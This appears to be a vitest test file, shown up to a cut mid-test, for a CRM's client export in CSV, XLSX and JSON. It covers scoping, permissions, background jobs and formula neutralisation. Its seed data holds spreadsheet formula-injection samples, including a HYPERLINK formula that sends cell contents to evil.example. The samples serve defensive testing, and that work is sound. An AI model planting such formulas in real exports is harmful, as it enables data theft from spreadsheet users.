import { execSync, spawn, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import net, { type AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import ExcelJS from 'exceljs';
import request from 'supertest';
import { parse as parseDisposition } from 'content-disposition';
import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest';
import pg from 'pg';
import { createTestApp, csrfFrom, login, resetDatabase, type Agent, type TestApp } from './helpers/app.js';
import { GROUPS, USERS, loginActors, restoreFixture, type ActorName } from './helpers/fixture.js';
import { stringify as csvStringify } from 'csv-stringify/sync';
import { XLSX_MAX_BUFFERED, csvRecord, neutralise, xmlText, type XlsxStats } from '../src/modules/exports/exports.format.js';
import { streamExport, timestampToIso } from '../src/modules/exports/exports.stream.js';
import { clientExportQuery } from '../src/modules/clients/clients.repository.js';
import { clientFilters } from '../src/modules/clients/clients.schemas.js';

/* ---------- Reading what the export sends ---------- */

/** The raw bytes of a response, whatever its type. */
const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};

/** A strict RFC 4180 reader: CRLF between records, quoted fields may hold the delimiter, quotes and line breaks. */
function parseCsv(text: string, delimiter = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue; }
      if (c === '"') { quoted = false; i++; continue; }
      field += c; i++; continue;
    }
    if (c === '"' && field === '') { quoted = true; i++; continue; }
    if (c === delimiter) { row.push(field); field = ''; i++; continue; }
    if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 2; continue; }
    if (c === '\n' || c === '\r') throw new Error(`bare line break outside quotes at ${i}`);
    field += c; i++;
  }
  if (field !== '' || row.length) throw new Error('the last record has no CRLF');
  return rows;
}

const HEADER = ['id', 'name', 'company', 'email', 'phone', 'address', 'website', 'status', 'notes', 'group', 'owner_name', 'owner_email', 'created_at', 'updated_at', 'source_lead_id'];
const JSON_KEYS = ['id', 'name', 'company', 'email', 'phone', 'address', 'website', 'status', 'notes', 'group', 'ownerName', 'ownerEmail', 'createdAt', 'updatedAt', 'sourceLeadId'];

/* ---------- The data: clients of groups A and B made with SQL ---------- */

const NOTES = 'Звонить после 18:00, "срочно"\nвторая строка';
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const PHONE = '+7 916 123-45-67';

interface Seed { group: number; owner: number | null; name: string; company?: string; email?: string; phone?: string; address?: string; website?: string; status?: 'active' | 'inactive'; notes?: string; hoursAgo: number; deleted?: boolean }
const A = GROUPS.A.id;
const B = GROUPS.B.id;
const SEEDS: Seed[] = [
  { group: A, owner: USERS.subjectA.id, name: 'Иван Петров', company: 'ООО «Ромашка»', email: 'ivan@example.ru', phone: PHONE, status: 'active', notes: NOTES, hoursAgo: 1 },
  { group: A, owner: USERS.managerA.id, name: HYPERLINK, company: '@SUM(1+1)', status: 'active', notes: 'a, "b"\nc', hoursAgo: 2 },
  { group: A, owner: null, name: 'Anna Smith', company: 'Acme, Inc.', address: '-5 Main St', status: 'inactive', hoursAgo: 3 },
  { group: A, owner: USERS.subjectA.id, name: 'Пётр Сидоров', website: 'https://example.ru', status: 'active', notes: '\tleading tab', hoursAgo: 4 },
  ...Array.from({ length: 8 }, (_, i): Seed => ({
    group: A, owner: USERS.subjectA.id, name: `Client A ${String(i + 5).padStart(2, '0')}`, status: i % 3 === 2 ? 'inactive' : 'active', hoursAgo: 5 + i,
  })),
  { group: A, owner: USERS.subjectA.id, name: 'Trashed Петров', status: 'active', hoursAgo: 30, deleted: true },
  { group: B, owner: USERS.subjectB.id, name: 'Борис Секретный', company: 'Тайна', status: 'active', hoursAgo: 1 },
  { group: B, owner: USERS.subjectB.id, name: 'Secret B Corp', status: 'active', hoursAgo: 2 },
  { group: B, owner: USERS.subjectB.id, name: '=B1+1', status: 'inactive', hoursAgo: 3 },
];

async function seedClients(t: TestApp) {
  const q = (text: string, values: unknown[]) => t.services.database.pool.query(text, values);
  for (const s of SEEDS) {
    await q(
      `insert into clients (group_id, owner_id, created_by_id, name, company, email, phone, address, website, status, notes, created_at, updated_at, deleted_at)
       values ($1, $2, $2, $3, $4, $5, $6, $7, $8, $9, $10, now() - make_interval(hours => $11), now() - make_interval(hours => $11) + interval '5 minutes', $12)`,
      [s.group, s.owner, s.name, s.company ?? null, s.email ?? null, s.phone ?? null, s.address ?? '', s.website ?? null, s.status ?? 'active', s.notes ?? '', s.hoursAgo, s.deleted ? new Date() : null],
    );
  }
}

/**
 * What the list shows, straight from SQL: the same scope (groups), filters and order (ties by id), every
 * export column as a CSV cell (neutralised text, ISO timestamps).
 */
async function expectedRows(t: TestApp, opts: { groups: number[]; status?: string; q?: string; order: string }): Promise<string[][]> {
  const where = ['c.deleted_at is null', `c.group_id = any($1::int[])`];
  const values: unknown[] = [opts.groups];
  if (opts.status) { values.push(opts.status); where.push(`c.status = $${values.length}`); }
  if (opts.q) { values.push(`%${opts.q}%`); where.push(`c.search like lower($${values.length})`); }
  const { rows } = await t.services.database.pool.query(
    `select c.id, c.name, c.company, c.email, c.phone, c.address, c.website, c.status, c.notes, g.name as group_name, o.name as owner_name,
            o.email as owner_email, c.created_at, c.updated_at, c.lead_id
       from clients c join groups g on g.id = c.group_id left join users o on o.id = c.owner_id
      where ${where.join(' and ')} order by ${opts.order}`,
    values,
  );
  const text = (v: unknown) => (v === null || v === undefined ? '' : neutralise(String(v)));
  return rows.map((r) => [
    String(r.id), text(r.name), text(r.company), text(r.email), text(r.phone), text(r.address), text(r.website), text(r.status), text(r.notes),
    text(r.group_name), text(r.owner_name), text(r.owner_email), (r.created_at as Date).toISOString(), (r.updated_at as Date).toISOString(),
    r.lead_id === null ? '' : String(r.lead_id),
  ]);
}

// exceljs's typings predate Node's generic Buffer.
const loadXlsx = (wb: ExcelJS.Workbook, buf: Buffer) => wb.xlsx.load(buf as unknown as ExcelJS.Buffer);

const today = () => new Date().toISOString().slice(0, 10);
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Polls the status fragment, as the page does, until the export reaches `status`. */
async function pollUntil(agent: Agent, id: string, status: 'done' | 'failed', timeoutMs = 15_000) {
  const end = Date.now() + timeoutMs;
  let last = '';
  while (Date.now() < end) {
    const res = await agent.get(`/exports/${id}`).set('HX-Request', 'true');
    expect(res.status).toBe(200);
    last = /data-status="(\w+)"/.exec(res.text)?.[1] ?? '';
    if (last === status) return res;
    if (last === 'done' || last === 'failed') break;
    await sleep(150);
  }
  throw new Error(`export ${id} is ${last}, not ${status}`);
}

async function csrfOf(agent: Agent, url = '/exports') {
  return csrfFrom((await agent.get(url)).text);
}

/* ---------- The writers' building blocks ---------- */

describe('CSV records and timestamps', () => {
  it('a record is what csv-stringify writes for RFC 4180, line breaks always quoted (both delimiters)', () => {
    const cells = ['', 'plain', 'a,b', 'a;b', 'say "hi"', 'line\nbreak', 'cr\rhere', 'crlf\r\nboth', ' spaced ', 'Кириллица, «ёлка»', '"', "'=1+1", '😀'];
    for (const delimiter of [',', ';'] as const) {
      const mine = [cells, [...cells].reverse()].map((r) => csvRecord(r, delimiter)).join('');
      // csv-stringify quotes a bare CR or LF only when told to; spreadsheets read either as a line break.
      expect(mine).toBe(csvStringify([cells, [...cells].reverse()], { delimiter, record_delimiter: '\r\n', quoted_match: /[\r\n]/ }));
      expect(parseCsv(mine, delimiter)).toEqual([cells, [...cells].reverse()]);
    }
  });

  it('timestamps are ISO 8601 in UTC with milliseconds, as Date#toISOString writes them', () => {
    expect(timestampToIso('2026-11-26 08:12:37.870123+00')).toBe('2026-11-26T08:12:37.870Z');
    expect(timestampToIso('2026-11-26 08:12:37.8+00')).toBe('2026-11-26T08:12:37.800Z');
    expect(timestampToIso('2026-11-26 08:12:37+00')).toBe('2026-11-26T08:12:37.000Z');
    // Another session time zone goes through pg's parser.
    expect(timestampToIso('2026-11-26 11:12:37.87+03')).toBe('2026-11-26T08:12:37.870Z');
    expect(timestampToIso('2026-11-26 02:42:37.87-05:30')).toBe('2026-11-26T08:12:37.870Z');
  });

  it('XML text escapes markup and drops the control characters XML 1.0 cannot hold (as exceljs does)', () => {
    expect(xmlText(`a<b>&'"`)).toBe('a&lt;b&gt;&amp;&apos;&quot;');
    expect(xmlText('x\x00\x01\x08\x0b\x0c\x0e\x1f\x7fy')).toBe('xy');
    expect(xmlText('tab\tnew\nline\rИван')).toBe('tab\tnew\nline\rИван');
  });

  it('neutralises exactly the cells that start with = + - @, a tab or a carriage return', () => {
    for (const s of ['=1', '+7', '-2', '@x', '\tx', '\rx']) expect(neutralise(s)).toBe(`'${s}`);
    for (const s of ['', 'a=1', ' =1', "'=1", '1-2', 'Иван']) expect(neutralise(s)).toBe(s);
  });
});

/* ---------- Sync exports ---------- */

let t: TestApp;
let agents: Record<ActorName, Agent>;

beforeAll(async () => {
  t = await createTestApp({ EXPORT_RATE_LIMIT: '1000' });
  await resetDatabase(t.services);
  await restoreFixture(t.services);
  await seedClients(t);
  agents = await loginActors(t.app);
});
afterAll(async () => {
  await t.services.jobs.settle();
  await t.close();
});

const get = (actor: ActorName, url: string) => agents[actor].get(url).buffer(true).parse(binary);

describe('GET /clients/export (streamed at once)', () => {
  it('CSV equals the filtered list: same rows, same order, every column, RFC 4180', async () => {
    const res = await get('managerA', '/clients/export?format=csv&status=active&sort=name&dir=asc');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(parseDisposition(res.headers['content-disposition']!)).toEqual({ type: 'attachment', parameters: { filename: `clients-${today()}.csv` } });
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    const text = (res.body as Buffer).toString('utf8');
    expect(text.charCodeAt(0)).not.toBe(0xfeff);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(HEADER);
    const want = await expectedRows(t, { groups: [A], status: 'active', order: 'lower(c.name) asc nulls last, c.id asc' });
    expect(want.length).toBeGreaterThan(5);
    expect(rows.slice(1)).toEqual(want);
    // Records end with CRLF; the line break inside the notes is kept inside quotes.
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text).toContain('"Звонить после 18:00, ""срочно""\nвторая строка"');
  });

  it('the default order (newest first) and a Cyrillic search give the same set as SQL', async () => {
    const all = parseCsv((await get('managerA', '/clients/export')).body.toString('utf8'));
    expect(all.slice(1)).toEqual(await expectedRows(t, { groups: [A], order: 'c.created_at desc nulls last, c.id desc' }));

    const found = parseCsv((await get('managerA', `/clients/export?q=${encodeURIComponent('ров')}&status=active&sort=created&dir=asc`)).body.toString('utf8'));
    const want = await expectedRows(t, { groups: [A], status: 'active', q: 'ров', order: 'c.created_at asc nulls last, c.id asc' });
    expect(want.map((r) => r[1])).toEqual(['Пётр Сидоров', 'Иван Петров']);
    expect(found.slice(1)).toEqual(want);
  });

  it("a manager of A exports group A only: B's rows never appear, not even when asked for", async () => {
    const text = (await get('managerA', '/clients/export?sort=name&dir=asc')).body.toString('utf8');
    const rows = parseCsv(text).slice(1);
    expect(new Set(rows.map((r) => r[9]))).toEqual(new Set([GROUPS.A.name]));
    for (const secret of ['Борис Секретный', 'Secret B Corp', 'Client B', 'Тайна']) expect(text).not.toContain(secret);
    // Trashed clients are not in the list, so not in the export.
    expect(text).not.toContain('Trashed Петров');
    // Naming group B does not widen the scope.
    expect((await get('managerA', `/clients/export?group=${B}`)).status).toBe(404);
  });

  it('an admin exports every group', async () => {
    const rows = parseCsv((await get('admin', '/clients/export?sort=name&dir=asc')).body.toString('utf8')).slice(1);
    expect(rows).toEqual(await expectedRows(t, { groups: [A, B], order: 'lower(c.name) asc nulls last, c.id asc' }));
    expect(new Set(rows.map((r) => r[9]))).toEqual(new Set([GROUPS.A.name, GROUPS.B.name]));
  });

  it('neutralises cells that a spreadsheet would run as a formula', async () => {
    const rows = parseCsv((await get('managerA', '/clients/export?sort=name&dir=asc')).body.toString('utf8')).slice(1);
    const byName = (start: string) => rows.find((r) => r[1]!.startsWith(start))!;
    const evil = byName(`'=HYPERLINK`);
    expect(evil[1]).toBe(`'${HYPERLINK}`);
    expect(evil[2]).toBe(`'@SUM(1+1)`);
    expect(byName('Иван')[4]).toBe(`'${PHONE}`);
    expect(byName('Anna')[5]).toBe(`'-5 Main St`);
    expect(byName('Пётр')[8]).toBe(`'\tleading tab`);
    // No cell begins with a formula character any more (numbers and ISO dates do not).
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('the Excel option starts with a UTF-8 BOM and uses ";"', async () => {
    const res = await get('managerA', '/clients/export?format=csv_excel&status=active&sort=name&dir=asc');
    expect(res.status).toBe(200);
    const buf = res.body as Buffer;
    expect([...buf.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = buf.toString('utf8').slice(1);
    expect(text.startsWith(`${HEADER.join(';')}\r\n`)).toBe(true);
    const rows = parseCsv(text, ';');
    expect(rows.slice(1)).toEqual(await expectedRows(t, { groups: [A], status: 'active', order: 'lower(c.name) asc nulls last, c.id asc' }));
    // Quoted for the quote and the line break; the comma means nothing here.
    expect(text).toContain(';"a, ""b""\nc";');
    expect(text).toContain(';ООО «Ромашка»;');
  });

  it('XLSX read back with exceljs holds the same rows (neutralised, Cyrillic intact)', async () => {
    const res = await get('managerA', '/clients/export?format=xlsx&status=active&sort=name&dir=asc');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(parseDisposition(res.headers['content-disposition']!).parameters.filename).toBe(`clients-${today()}.xlsx`);
    const wb = new ExcelJS.Workbook();
    await loadXlsx(wb, res.body as Buffer);
    const ws = wb.worksheets[0]!;
    const sheet: string[][] = [];
    ws.eachRow((row) => {
      const cells: string[] = [];
      for (let c = 1; c <= HEADER.length; c++) {
        const v = row.getCell(c).value;
        cells.push(v === null || v === undefined ? '' : String(v));
      }
      sheet.push(cells);
    });
    expect(sheet[0]).toEqual(HEADER);
    const want = await expectedRows(t, { groups: [A], status: 'active', order: 'lower(c.name) asc nulls last, c.id asc' });
    expect(sheet.slice(1)).toEqual(want);
    expect(typeof ws.getRow(2).getCell(1).value).toBe('number');
    expect(sheet.some((r) => r[1] === 'Иван Петров' && r[8] === NOTES)).toBe(true);
    expect(sheet.some((r) => r[1] === `'${HYPERLINK}`)).toBe(true);
  });

  it('JSON parses: the same rows as objects, values as stored (not neutralised)', async () => {
    const res = await get('managerA', '/clients/export?format=json&status=active&sort=name&dir=asc');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(parseDisposition(res.headers['content-disposition']!).parameters.filename).toBe(`clients-${today()}.json`);
    const data = JSON.parse((res.body as Buffer).toString('utf8')) as Record<string, unknown>[];
    const want = await expectedRows(t, { groups: [A], status: 'active', order: 'lower(c.name) asc nulls last, c.id asc' });
    expect(data.map((o) => o.id)).toEqual(want.map((r) => Number(r[0])));
    expect(Object.keys(data[0]!)).toEqual(JSON_KEYS);
    const ivan = data.find((o) => o.name === 'Иван Петров')!;
    expect(ivan).toMatchObject({ company: 'ООО «Ромашка»', phone: PHONE, notes: NOTES, group: GROUPS.A.name, ownerName: 'subjectA', sourceLeadId: null });
    expect(new Date(ivan.createdAt as string).toISOString()).toBe(ivan.createdAt);
    expect(data.some((o) => o.name === HYPERLINK)).toBe(true);
    // An empty result is still a JSON array.
    const none = await get('managerA', '/clients/export?format=json&q=nothing-like-this');
    expect(JSON.parse(none.body.toString('utf8'))).toEqual([]);
  });

  it('members who manage no group, and users in no group, get 403; anonymous users are sent to log in', async () => {
    for (const actor of ['memberA', 'memberB', 'noGroup'] as const) {
      const res = await agents[actor].get('/clients/export?format=csv');
      expect(res.status, actor).toBe(403);
      expect(res.text).toContain('Only group managers and administrators can export clients.');
    }
    const anon = await request(t.app).get('/clients/export');
    expect(anon.status).toBe(303);
    expect(anon.headers.location).toMatch(/^\/login\?next=/);
  });

  it('an unknown format, filter value or parameter is a 400 that lists the allowed values', async () => {
    const bad = async (query: string) => {
      const res = await agents.managerA.get(`/clients/export?${query}`);
      expect(res.status, query).toBe(400);
      expect(res.headers['content-disposition'], query).toBeUndefined();
      return res.text;
    };
    expect(await bad('format=pdf')).toContain('csv, csv_excel, xlsx, json');
    expect(await bad('status=weird')).toContain('active, inactive');
    expect(await bad('sort=evil')).toContain('created, updated, name, company, status, owner');
    expect(await bad('dir=sideways')).toContain('asc, desc');
    expect(await bad('fromLead=maybe')).toContain('yes, no');
    expect(await bad('createdFrom=2026-02-30')).toContain('YYYY-MM-DD');
    expect(await bad('owner=someone')).toContain('me, none');
    expect(await bad('colour=red')).toContain('is not an export parameter');
    expect(await bad('status=active&status=inactive')).toContain('more than once');
    // The API answer is problem+json with the same message.
    const json = await agents.managerA.get('/clients/export?format=pdf&status=weird').set('Accept', 'application/json');
    expect(json.status).toBe(400);
    expect(json.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(json.body.detail).toContain('csv, csv_excel, xlsx, json');
    expect(json.body.detail).toContain('active, inactive');
    // Empty fields of the list's form mean "no filter"; the list's page is ignored.
    expect((await agents.managerA.get('/clients/export?q=&status=&owner=&group=&page=3&perPage=25')).status).toBe(200);
  });

  it('HEAD answers the headers of the file without exporting: no log row, no activity, no rate-limit use', async () => {
    const pool = t.services.database.pool;
    await pool.query(`delete from exports where user_id = $1`, [USERS.managerA.id]);
    const { rows: [before] } = await pool.query(`select count(*)::int as n from activities where action = 'exported'`);
    const head = await agents.managerA.head('/clients/export?format=xlsx&status=active');
    expect(head.status).toBe(200);
    expect(head.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(parseDisposition(head.headers['content-disposition']!).parameters.filename).toBe(`clients-${today()}.xlsx`);
    // The same checks as a GET: no export right → 403, a bad parameter → 400, another group → 404.
    expect((await agents.memberA.head('/clients/export')).status).toBe(403);
    expect((await agents.managerA.head('/clients/export?format=pdf')).status).toBe(400);
    expect((await agents.managerA.head(`/clients/export?group=${B}`)).status).toBe(404);
    await sleep(100);
    expect((await pool.query('select id from exports where user_id = $1', [USERS.managerA.id])).rows).toEqual([]);
    const { rows: [after] } = await pool.query(`select count(*)::int as n from activities where action = 'exported'`);
    expect(after.n).toBe(before.n);
  });

  it('an impossible date in the lists\' created range is a 400 naming it (pages and API), not a server error', async () => {
    for (const url of ['/clients?createdFrom=2026-13-45', '/leads?createdTo=2026-02-30', '/clients?createdTo=yesterday']) {
      const res = await agents.managerA.get(url);
      expect(res.status, url).toBe(400);
      expect(res.text, url).toMatch(/created(From|To): “[^”]+” is not a valid date\. Use YYYY-MM-DD/);
    }
    const ru = await agents.managerA.get('/leads?createdFrom=2026-13-45').set('Accept-Language', 'ru');
    expect(ru.status).toBe(400);
    expect(ru.text).toContain('createdFrom: «2026-13-45» — не дата');
    // Asked by htmx (a filter form), the answer is the message alone, for the page's alert region: htmx swaps
    // nothing on an error status, and a whole error page would nest a second layout.
    const hx = await agents.managerA.get('/leads?createdFrom=2026-13-45').set('HX-Request', 'true').set('HX-Target', 'lead-results');
    expect(hx.status).toBe(400);
    expect(hx.text).toContain('createdFrom: “2026-13-45” is not a valid date');
    expect(hx.text).not.toMatch(/<html|<main|<nav/);
    expect(hx.headers['x-error-fragment']).toBe('1');
    for (const url of ['/api/v1/clients?createdFrom=2026-13-45', '/api/v1/leads?createdTo=2026-00-10']) {
      const api = await agents.managerA.get(url);
      expect(api.status, url).toBe(400);
      expect(api.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(api.body.detail).toContain('is not a valid date');
    }
    // Real days and empty fields (the filter form's "no bound") still list.
    for (const url of ['/clients?createdFrom=2026-02-28&createdTo=2099-12-31', '/leads?createdFrom=&createdTo=', '/api/v1/clients?createdFrom=2024-02-29']) {
      expect((await agents.managerA.get(url)).status, url).toBe(200);
    }
  });

  it('every export is logged (exports row) and recorded once per exported group in the activity log', async () => {
    const pool = t.services.database.pool;
    await pool.query(`delete from exports where user_id = $1`, [USERS.admin.id]);
    await pool.query(`delete from activities where action = 'exported'`);
    const res = await get('admin', '/clients/export?format=json&status=active');
    const rows = JSON.parse(res.body.toString('utf8')) as { group: string }[];
    // The log is completed as the last byte goes out: wait for it.
    let log: Record<string, unknown>[] = [];
    for (let i = 0; i < 50; i++) {
      log = (await pool.query(`select * from exports where user_id = $1`, [USERS.admin.id])).rows;
      if (log[0]?.status !== 'running') break;
      await sleep(50);
    }
    expect(log).toHaveLength(1);
    expect(log[0]).toMatchObject({ status: 'done', format: 'json', total: rows.length, processed: rows.length, filters: { status: 'active', sort: 'created', dir: 'desc' } });
    const { rows: acts } = await pool.query(`select group_id, actor_id, lead_id, client_id, data from activities where action = 'exported' order by group_id`);
    expect(acts.map((a) => a.group_id)).toEqual([A, B]);
    for (const a of acts) {
      expect(a).toMatchObject({ actor_id: USERS.admin.id, lead_id: null, client_id: null });
      expect(a.data).toMatchObject({ format: 'json', filters: { status: 'active' }, total: rows.length });
    }
    expect(acts[0].data.rows).toBe(rows.filter((r) => r.group === GROUPS.A.name).length);
    expect(acts[1].data.rows).toBe(rows.filter((r) => r.group === GROUPS.B.name).length);
    // The log page lists it.
    const page = await agents.admin.get('/exports');
    expect(page.status).toBe(200);
    expect(page.text).toContain(`/exports/${String(log[0]!.id)}`);
  });
});

/* ---------- Background exports ---------- */

describe('exports over the sync limit run in the background', () => {
  let bg: TestApp;
  let bgAgents: Record<ActorName, Agent>;
  beforeAll(async () => {
    // The in-process jobs engine (no REDIS_URL), polling as the server does.
    bg = await createTestApp({ EXPORT_SYNC_LIMIT: '5', EXPORT_RATE_LIMIT: '1000', JOBS_POLL_MS: '100' });
    bg.services.jobs.start();
    bgAgents = await loginActors(bg.app);
  });
  afterAll(async () => {
    await bg.services.jobs.settle();
    await bg.close();
  });

  it('redirects to /exports/:id, shows progress, and the file downloads with exactly the filtered rows', async () => {
    const manager = bgAgents.managerA;
    const start = await manager.get('/clients/export?format=csv&sort=name&dir=asc');
    expect(start.status).toBe(303);
    const id = /^\/exports\/([0-9a-f-]{36})$/.exec(start.headers.location!)?.[1];
    expect(id).toBeTruthy();

    const page = await manager.get(`/exports/${id}`);
    expect(page.status).toBe(200);
    expect(page.text).toContain('in the background');
    expect(page.text).toContain('id="export-status"');

    const done = await pollUntil(manager, id!, 'done');
    expect(done.text).not.toContain('<html');
    expect(done.text).not.toContain('hx-trigger');
    expect(done.text).toContain(`/exports/${id}/download`);

    const file = await manager.get(`/exports/${id}/download`).buffer(true).parse(binary);
    expect(file.status).toBe(200);
    expect(parseDisposition(file.headers['content-disposition']!).parameters.filename).toBe(`clients-${today()}.csv`);
    const rows = parseCsv((file.body as Buffer).toString('utf8'));
    expect(rows[0]).toEqual(HEADER);
    const want = await expectedRows(bg, { groups: [A], order: 'lower(c.name) asc nulls last, c.id asc' });
    expect(want.length).toBeGreaterThan(5);
    expect(rows.slice(1)).toEqual(want);

    const { rows: [row] } = await bg.services.database.pool.query('select * from exports where id = $1', [id]);
    expect(row).toMatchObject({ status: 'done', total: want.length, processed: want.length, storage_name: `${id}.csv`, error: null });
    expect(row.expires_at.getTime() - row.finished_at.getTime()).toBe(24 * 3_600_000);
    expect(fs.existsSync(path.join(bg.services.env.UPLOAD_DIR, 'exports', `${id}.csv`))).toBe(true);
    // No temp file is left behind.
    expect(fs.readdirSync(path.join(bg.services.env.UPLOAD_DIR, 'exports')).filter((n) => n.startsWith(id!) && n.endsWith('.part'))).toEqual([]);
    const { rows: acts } = await bg.services.database.pool.query(`select group_id, data from activities where action = 'exported' and data->>'exportId' = $1`, [id]);
    expect(acts).toEqual([{ group_id: A, data: expect.objectContaining({ format: 'csv', rows: want.length }) }]);
    // It ran as a job of the jobs engine: one, keyed by the export id, done on its first attempt.
    const { rows: jobs } = await bg.services.database.pool.query(`select name, status, payload, attempts from job_outbox where payload->>'exportId' = $1`, [id]);
    expect(jobs).toEqual([{ name: 'exports.run', status: 'done', payload: { exportId: id }, attempts: 1 }]);

    // Someone else's export, page or file, is not there for them: admins included.
    for (const other of ['memberA', 'admin', 'memberB'] as const) {
      expect((await bgAgents[other].get(`/exports/${id}`)).status, other).toBe(404);
      expect((await bgAgents[other].get(`/exports/${id}/download`)).status, other).toBe(404);
      const retry = await bgAgents[other].post(`/exports/${id}/retry`).type('form').send({ _csrf: await csrfOf(bgAgents[other]) });
      expect(retry.status, other).toBe(404);
    }
    expect((await manager.get('/exports/not-a-uuid')).status).toBe(404);
  });

  it('XLSX and JSON in the background hold the same rows', async () => {
    const manager = bgAgents.managerA;
    const want = await expectedRows(bg, { groups: [A], status: 'active', order: 'c.created_at desc nulls last, c.id desc' });
    for (const format of ['xlsx', 'json'] as const) {
      const start = await manager.get(`/clients/export?format=${format}&status=active`);
      expect(start.status).toBe(303);
      const id = start.headers.location!.split('/').pop()!;
      await pollUntil(manager, id, 'done');
      const file = await manager.get(`/exports/${id}/download`).buffer(true).parse(binary);
      expect(file.status).toBe(200);
      if (format === 'json') {
        const data = JSON.parse(file.body.toString('utf8')) as { id: number; name: string }[];
        expect(data.map((o) => o.id)).toEqual(want.map((r) => Number(r[0])));
        expect(data.some((o) => o.name === 'Иван Петров')).toBe(true);
      } else {
        const wb = new ExcelJS.Workbook();
        await loadXlsx(wb, file.body as Buffer);
        const ids: number[] = [];
        wb.worksheets[0]!.eachRow((row, n) => void (n > 1 && ids.push(row.getCell(1).value as number)));
        expect(ids).toEqual(want.map((r) => Number(r[0])));
      }
    }
  });

  it('the status fragment polls while the export waits or runs, and stops when it is over', async () => {
    const pool = bg.services.database.pool;
    // A row made by hand (never queued): the page as it looks while the export waits and runs.
    const { rows: [row] } = await pool.query(
      `insert into exports (user_id, format, status, total, processed) values ($1, 'csv', 'running', 5000, 2000) returning id`,
      [USERS.managerA.id],
    );
    const running = await bgAgents.managerA.get(`/exports/${row.id}`).set('HX-Request', 'true');
    expect(running.text).toContain(`hx-get="/exports/${row.id}"`);
    expect(running.text).toContain('hx-trigger="every 1s"');
    expect(running.text).toMatch(/<progress[^>]*value="2000"[^>]*max="5000"/);
    expect(running.text).not.toContain('<script');
    await pool.query(`update exports set status = 'pending', processed = 0 where id = $1`, [row.id]);
    expect((await bgAgents.managerA.get(`/exports/${row.id}`).set('HX-Request', 'true')).text).toContain('hx-trigger="every 1s"');
    await pool.query(`delete from exports where id = $1`, [row.id]);
  });

  it('an expired file answers 410 and is removed; purgeExpiredExports deletes expired files and rows', async () => {
    const manager = bgAgents.managerA;
    const pool = bg.services.database.pool;
    const start = await manager.get('/clients/export?format=csv');
    const id = start.headers.location!.split('/').pop()!;
    await pollUntil(manager, id, 'done');
    const file = path.join(bg.services.env.UPLOAD_DIR, 'exports', `${id}.csv`);
    expect(fs.existsSync(file)).toBe(true);
    await pool.query(`update exports set expires_at = now() - interval '1 minute' where id = $1`, [id]);
    const gone = await manager.get(`/exports/${id}/download`);
    expect(gone.status).toBe(410);
    expect(gone.text).toContain('kept for 24 hours');
    expect(fs.existsSync(file)).toBe(false);

    // Another one, expired, cleaned up by the purge (file and row); a fresh one stays.
    const second = (await manager.get('/clients/export?format=json')).headers.location!.split('/').pop()!;
    await pollUntil(manager, second, 'done');
    const fresh = (await manager.get('/clients/export?format=csv_excel')).headers.location!.split('/').pop()!;
    await pollUntil(manager, fresh, 'done');
    await pool.query(`update exports set expires_at = now() - interval '1 minute' where id = $1`, [second]);
    const removed = await bg.services.exports.purgeExpired();
    expect(removed).toBeGreaterThanOrEqual(2);
    expect(fs.existsSync(path.join(bg.services.env.UPLOAD_DIR, 'exports', `${second}.json`))).toBe(false);
    const { rows } = await pool.query('select id from exports where id = any($1::uuid[])', [[id, second, fresh]]);
    expect(rows.map((r) => r.id)).toEqual([fresh]);
  });
});

/* ---------- The same job on BullMQ ---------- */

const hasRedis = (() => {
  try {
    return !!execSync('command -v redis-server', { stdio: 'pipe' }).toString().trim();
  } catch {
    return false;
  }
})();

describe.skipIf(!hasRedis)('background exports on BullMQ (a redis-server of the test\'s own) — skipped without redis-server', () => {
  let app: TestApp;
  let redis: ChildProcess;
  let workers: { close(force?: boolean): Promise<void> }[] = [];
  beforeAll(async () => {
    const port = await new Promise<number>((resolve) => {
      const srv = net.createServer().listen(0, '127.0.0.1', () => {
        const { port: p } = srv.address() as AddressInfo;
        srv.close(() => resolve(p));
      });
    });
    redis = spawn('redis-server', ['--port', String(port), '--bind', '127.0.0.1', '--save', '', '--appendonly', 'no'], { stdio: 'ignore' });
    await sleep(300);
    app = await createTestApp({ EXPORT_SYNC_LIMIT: '5', EXPORT_RATE_LIMIT: '1000', REDIS_URL: `redis://127.0.0.1:${port}`, JOBS_POLL_MS: '100' });
    // The web process hands the outbox to Redis; the workers (what `npm run worker` starts) run the job.
    app.services.jobs.start();
    workers = app.services.jobs.startWorkers(1);
  });
  afterAll(async () => {
    await Promise.all(workers.map((w) => w.close(true).catch(() => undefined)));
    await app?.close();
    redis?.kill('SIGKILL');
  });

  it('the export runs on a worker, shows its progress to the end and downloads whole', async () => {
    expect(app.services.jobs.mode).toBe('bullmq');
    const agent = request.agent(app.app);
    expect((await login(agent, USERS.managerA.email)).status).toBe(303);
    const start = await agent.get('/clients/export?format=xlsx&sort=name&dir=asc');
    expect(start.status).toBe(303);
    const id = start.headers.location!.split('/').pop()!;
    const done = await pollUntil(agent, id, 'done', 20_000);
